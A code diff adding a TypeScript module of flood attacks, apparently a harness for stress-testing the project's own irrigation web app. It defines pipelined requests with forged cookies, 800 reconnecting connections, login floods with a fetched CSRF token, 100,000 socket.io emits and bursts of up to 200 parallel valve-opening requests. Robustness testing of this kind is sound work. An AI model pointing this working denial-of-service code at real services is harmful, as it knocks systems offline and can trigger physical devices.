@@ -1,0 +1,162 @@
+import { randomBytes } from 'node:crypto';
+import { connect, type Socket } from 'node:net';
+import { setTimeout as wait } from 'node:timers/promises';
+import { io } from 'socket.io-client';
+
+/** Where to attack, and the session of an ordinary user for attacks that need one. */
+export type Target = {
+  readonly address: string;
+  readonly cookie: string;
+  readonly csrf: string;
+  readonly outputId: string;
+  readonly seconds: number;
+};
+
+/** Runs an attack until its time is over; returns how much was sent. */
+export type Attack = (target: Target) => Promise<number>;
+
+const PIPELINE_DEPTH = 200;
+
+const raw = (line: string, headers: Readonly<Record<string, string>>, body = ''): string =>
+  `${line} HTTP/1.1\r\n${Object.entries({ host: 'localhost', ...headers })
+    .map(([name, value]) => `${name}: ${value}\r\n`)
+    .join('')}\r\n${body}`;
+
+const madeUpCookie = (): string => raw('GET /api/me', { cookie: `sid=${randomBytes(32).toString('base64url')}` });
+
+/** Keeps `connections` open, opening a new one for each that is cut, until the time is over. */
+async function keepConnections(
+  { address, seconds }: Target,
+  connections: number,
+  drive: (socket: Socket, isOver: () => boolean) => void,
+): Promise<void> {
+  const { hostname, port } = new URL(address);
+  const end = performance.now() + seconds * 1_000;
+  const isOver = (): boolean => performance.now() > end;
+  await Promise.all(
+    Array.from({ length: connections }, async () => {
+      while (!isOver()) {
+        await new Promise<void>((resolve) => {
+          const socket = connect(Number(port), hostname, () => drive(socket, isOver));
+          const timer = setTimeout(() => socket.destroy(), end - performance.now());
+          socket.on('error', () => undefined);
+          socket.on('close', () => {
+            clearTimeout(timer);
+            resolve();
+          });
+        });
+      }
+    }),
+  );
+}
+
+/** Writes requests as fast as the connection takes them, without waiting for answers. */
+function pipelined(connections: number, makeRequest: (target: Target) => string): Attack {
+  return async (target) => {
+    let sent = 0;
+    await keepConnections(target, connections, (socket, isOver) => {
+      const write = (): void => {
+        while (!socket.destroyed && !isOver()) {
+          sent += PIPELINE_DEPTH;
+          const batch = Array.from({ length: PIPELINE_DEPTH }, () => makeRequest(target)).join('');
+          if (!socket.write(batch)) return void socket.once('drain', write);
+        }
+      };
+      socket.resume();
+      write();
+    });
+    return sent;
+  };
+}
+
+/** Many connections, each sending its next request when the one before is answered. */
+const manyConnections: Attack = async (target) => {
+  let sent = 0;
+  await keepConnections(target, 800, (socket, isOver) => {
+    const next = (): void => {
+      if (isOver() || socket.destroyed) return void socket.destroy();
+      sent += 1;
+      socket.write(madeUpCookie());
+    };
+    socket.on('data', next);
+    next();
+  });
+  return sent;
+};
+
+/** Sign-ins of a stranger, with the token that every stranger gets. */
+const logins: Attack = async (target) => {
+  const answer = await fetch(`${target.address}/token`);
+  const csrf = /"token":"([^"]+)"/.exec(await answer.text())?.[1] ?? '';
+  const cookie = (answer.headers.getSetCookie()[0] ?? '').split(';')[0] ?? '';
+  return pipelined(4, () => login(cookie, csrf))(target);
+};
+
+const login = (cookie: string, csrf: string): string => {
+  const body = JSON.stringify({ email: 'nobody@noisy.test', password: 'Wrong_Password1!' });
+  const headers = { cookie, csrf, 'content-type': 'application/json', 'content-length': String(body.length) };
+  return raw('POST /login', headers, body);
+};
+
+const emits: Attack = async ({ address, cookie, seconds }) => {
+  const end = performance.now() + seconds * 1_000;
+  let sent = 0;
+  while (performance.now() < end) {
+    const socket = io(address, {
+      transports: ['websocket'],
+      reconnection: false,
+      forceNew: true,
+      extraHeaders: { origin: address, cookie },
+    });
+    const isConnected = await new Promise<boolean>((resolve) => {
+      socket.once('connect', () => resolve(true));
+      socket.once('connect_error', () => resolve(false));
+    });
+    for (let i = 0; isConnected && i < 100_000 && performance.now() < end; i += 1) {
+      socket.emit('widget_irrigation', {}, () => undefined);
+      sent += 1;
+      // Lets the connection write and notice that it was cut.
+      if (i % 500 === 499) await wait(0);
+      if (!socket.connected) break;
+    }
+    socket.disconnect();
+  }
+  return sent;
+};
+
+/** The same opening many times at once, again and again. */
+function parallelOpenings(count: number): Attack {
+  return async ({ address, cookie, csrf, outputId, seconds }) => {
+    const end = performance.now() + seconds * 1_000;
+    let sent = 0;
+    while (performance.now() < end) {
+      sent += count;
+      const openings = Array.from({ length: count }, () =>
+        fetch(`${address}/api/manual_opens`, {
+          method: 'POST',
+          headers: { cookie, csrf, 'content-type': 'application/json' },
+          body: JSON.stringify({ id_output: outputId, minutes: 5 }),
+        }).then((answer) => answer.text()),
+      );
+      await Promise.allSettled(openings);
+    }
+    return sent;
+  };
+}
+
+/** What strangers and ordinary users may try. */
+export const ATTACKS = {
+  'made-up cookies, pipelined on 1 connection': pipelined(1, madeUpCookie),
+  'made-up cookies, pipelined on 4 connections': pipelined(4, madeUpCookie),
+  'made-up cookies on 800 connections': manyConnections,
+  'POST /login, pipelined on 4 connections': logins,
+  'one socket with 100,000 emits': emits,
+  '40 parallel openings of one output': parallelOpenings(40),
+  '200 parallel openings of one output': parallelOpenings(200),
+} as const satisfies Record<string, Attack>;
+
+export type AttackName = keyof typeof ATTACKS;
+
+export function isAttackName(name: string): name is AttackName {
+  return Object.hasOwn(ATTACKS, name);
+}
